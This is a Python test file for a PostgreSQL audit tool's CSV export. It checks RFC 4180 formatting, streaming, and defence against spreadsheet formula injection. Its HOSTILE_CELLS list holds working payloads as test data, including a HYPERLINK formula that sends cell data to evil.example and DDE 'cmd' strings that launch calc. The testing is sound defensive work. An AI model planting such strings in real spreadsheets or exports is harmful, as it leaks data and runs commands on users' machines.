"""``--csv``: one RFC 4180 row per finding, read back by Python's csv module as written,
and never a formula, whatever names the audited server holds."""

from __future__ import annotations

import csv
import io
import json

import pytest

from pgwarden.model.results import Finding, Results, Waiver, fingerprint
from pgwarden.reports.csv_table import COLUMNS, FORMULA_STARTS, neutralized, render_csv, stream_csv
from tests.reports.conftest import large_results, with_pass_records

# Names a hostile tenant can give a role, database or application, each a formula or a
# DDE command in some spreadsheet, and text that needs quoting.
HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    'a "quoted", comma\nand a new line',
    "ütf-8 日本 \u202etxt",
]


def _rows(document: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(document.decode("utf-8"), newline="")))


def _hostile(results: Results) -> Results:
    base = results.findings[0]
    findings = [
        base.model_copy(
            update={
                "app": name,
                "resource": f"database/{name}",
                "principal": name,
                "message": name,
                "remediation": name,
                "fingerprint": fingerprint(base.rule_id, base.server, name, None),
            }
        )
        for name in HOSTILE_CELLS
    ]
    findings.append(
        Finding(
            rule_id=base.rule_id,
            severity="low",
            status="waived",
            server="=server",
            resource="-resource",
            message="+message",
            fingerprint="@fingerprint",
            waiver=Waiver(reason="=1+1", owner="@owner", expires=base.waiver.expires)
            if base.waiver
            else Waiver(reason="=1+1", owner="@owner", expires=results.scan.started_at.date()),
        )
    )
    return results.model_copy(update={"findings": tuple(findings)})


def test_header_and_one_row_per_finding_in_order(results: Results) -> None:
    rows = _rows(render_csv(results))
    assert tuple(rows[0]) == COLUMNS
    assert [row[COLUMNS.index("fingerprint")] for row in rows[1:]] == [
        f.fingerprint for f in results.findings
    ]
    first = dict(zip(COLUMNS, rows[1], strict=True))
    finding = results.findings[0]
    assert first["rule_id"] == finding.rule_id and first["status"] == finding.status
    assert json.loads(first["evidence"]) == finding.evidence
    assert "cis-postgresql-16-1.0.0 4.2" in first["controls"]


def test_rfc_4180_crlf_utf8_without_bom(results: Results) -> None:
    document = render_csv(results)
    assert not document.startswith(b"\xef\xbb\xbf")
    assert document.endswith(b"\r\n")
    lines = document.split(b"\r\n")
    assert lines[0] == ",".join(COLUMNS).encode()


def test_pass_records_are_rows_too(results: Results) -> None:
    passed = with_pass_records(results)
    rows = _rows(render_csv(passed))
    statuses = [row[0] for row in rows[1:]]
    assert statuses.count("pass") == sum(f.status == "pass" for f in passed.findings) > 0


def test_hostile_names_are_never_formulas_and_read_back_whole(results: Results) -> None:
    hostile = _hostile(results)
    rows = _rows(render_csv(hostile))
    assert len(rows) == len(hostile.findings) + 1
    for row in rows[1:]:
        for cell in row:
            assert not cell.lstrip(" ").startswith(FORMULA_STARTS), repr(cell)
    for name, row in zip(HOSTILE_CELLS, rows[1:], strict=False):
        record = dict(zip(COLUMNS, row, strict=True))
        for column in ("app", "principal", "message", "remediation"):
            # Exactly the value, behind one apostrophe when it would start a formula.
            assert record[column] == neutralized(name)
            assert record[column].removeprefix("'") == name
    last = dict(zip(COLUMNS, rows[-1], strict=True))
    assert last["server"] == "'=server" and last["resource"] == "'-resource"
    assert last["waiver_reason"] == "'=1+1" and last["waiver_owner"] == "'@owner"


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@x", "\tx", "\rx", "  =x"])
def test_every_formula_start_is_neutralized(value: str) -> None:
    assert neutralized(value) == "'" + value


@pytest.mark.parametrize("value", ["database/zep", "", "1-2", "a=b", "role/x@y"])
def test_other_values_are_left_alone(value: str) -> None:
    assert neutralized(value) == value


def test_a_big_csv_is_written_in_pieces_that_end_with_whole_rows() -> None:
    many = large_results(5_000, servers=2)
    pieces = list(stream_csv(many))
    assert len(pieces) > 2
    assert all(piece.endswith(b"\r\n") for piece in pieces)
    rows = list(csv.reader(io.StringIO(b"".join(pieces).decode("utf-8"), newline="")))
    assert len(rows) == len(many.findings) + 1
    assert [row[-1] for row in rows[1:]] == [f.fingerprint for f in many.findings]
